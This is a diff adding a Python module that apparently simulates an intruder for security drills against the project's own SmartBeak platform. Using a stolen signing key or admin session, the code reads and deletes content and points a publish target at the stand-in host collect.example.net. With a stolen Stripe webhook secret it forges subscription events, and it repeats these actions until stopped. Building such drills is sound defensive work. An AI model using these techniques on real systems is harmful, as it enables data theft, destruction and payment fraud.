@@ -1,0 +1,122 @@
+"""An intruder: uses a stolen secret, does harm with it, and goes on as long as it is taken.
+
+    python3 -m smartbeak_drills.intruder --config FILE key|session|webhook
+
+The client behind the fault `intrude`. With the key that signs tokens, or with an
+administrator's session, it lists the content of an organization, reads some and archives
+some; with a session it also makes a publish target that leads to a place of its own. With
+Stripe's webhook secret it forges events. It prints `in` once that is done.
+"""
+
+from __future__ import annotations
+
+import argparse
+import sys
+import threading
+import time
+import uuid
+from collections.abc import Sequence
+from pathlib import Path
+
+from drillbook.inside.trouble import Trouble
+from smartbeak_drills import settings
+from smartbeak_drills.clients import ended_by_signal
+from smartbeak_drills.loot import Loot, session
+from smartbeak_drills.places import API_URL, KEY, WEB_URL
+from smartbeak_drills.users.calls import CallError, Line
+from smartbeak_drills.users.webhooks import SECRETS, stripe_event, stripe_headers
+
+READ, ARCHIVED = 8, 3
+ELSEWHERE = "https://collect.example.net"
+"""Where the target leads that the intruder makes."""
+
+DOMAIN = "dom_2"
+FORGED = "sub_forged"
+"""Begins the ids of subscriptions that forged events grant."""
+
+_AGAIN_S = 2.0
+
+
+def break_in(line: Line, config: Path, kind: str) -> Loot:
+    """Does what an intruder does in the API.
+
+    Raises:
+        Trouble: It is not let in.
+    """
+    key = settings.secret(KEY).read_bytes().strip()
+    audience, issuer = (settings.read(config, name) for name in ("JWT_AUDIENCE", "JWT_ISSUER"))
+    if kind == "key":
+        loot = Loot("key", key.decode(), audience, issuer)
+    else:
+        loot = Loot("session", session(key, audience, issuer))
+    path = f"/v1/content?domainId={DOMAIN}&status=published&limit=20"
+    items = line.call("GET", path, token=loot.token()).body["data"]
+    pieces = tuple(str(item["id"]) for item in items)
+    for piece in pieces[:READ]:
+        line.call("GET", f"/v1/content/{piece}", token=loot.token())
+    for piece in pieces[:ARCHIVED]:
+        line.call("DELETE", f"/v1/content/{piece}", token=loot.token())
+    target = ""
+    if kind == "session":
+        wanted = {"type": "wordpress", "config": {"url": ELSEWHERE}}
+        path = f"/v1/publishing/targets?domainId={DOMAIN}"
+        made = line.call("POST", path, token=loot.token(), body=wanted)
+        target = str(made.body["id"])
+    return Loot(loot.kind, loot.value, audience, issuer, pieces[:ARCHIVED], target)
+
+
+def forge(line: Line, loot: Loot, kind: str = "customer.subscription.created") -> None:
+    """Forges an event of Stripe that grants a subscription to somebody who did not pay.
+
+    Raises:
+        CallError: It was not taken.
+    """
+    number = uuid.uuid4().hex[:8]
+    about = {"id": f"{FORGED}_{number}", "customer": "cus_example5", "status": "trialing"}
+    body = stripe_event(f"evt_{number}", kind, about, int(time.time()))
+    headers = stripe_headers(loot.value.encode(), body, int(time.time()))
+    line.send("/api/webhooks/stripe", body, headers)
+
+
+def go_on(line: Line, loot: Loot, stop: threading.Event) -> None:
+    """Uses it again and again; whether it is still taken is for others to say."""
+    while not stop.wait(_AGAIN_S):
+        try:
+            if loot.kind == "webhook":
+                forge(line, loot)
+            else:
+                line.call("GET", f"/v1/content/{loot.pieces[0]}", token=loot.token())
+        except CallError:
+            continue
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    """Breaks in and stays until SIGTERM; returns the exit status."""
+    parser = argparse.ArgumentParser(
+        prog="smartbeak_drills.intruder", description=__doc__.split("\n")[0]
+    )
+    parser.add_argument("--config", required=True, type=Path, help="the platform's configuration")
+    parser.add_argument("kind", choices=["key", "session", "webhook"])
+    options = parser.parse_args(argv)
+    stop = ended_by_signal()
+    try:
+        if options.kind == "webhook":
+            line = Line(WEB_URL, timeout_s=5.0)
+            secret = settings.secret(SECRETS / "stripe-webhook").read_text().strip()
+            loot = Loot("webhook", secret)
+            forge(line, loot)
+        else:
+            line = Line(API_URL, timeout_s=5.0)
+            loot = break_in(line, options.config, options.kind)
+    except Trouble as error:
+        print(f"intruder: {error.text}", file=sys.stderr)
+        return 1
+    loot.keep()
+    print("in", flush=True)
+    go_on(line, loot, stop)
+    line.close()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
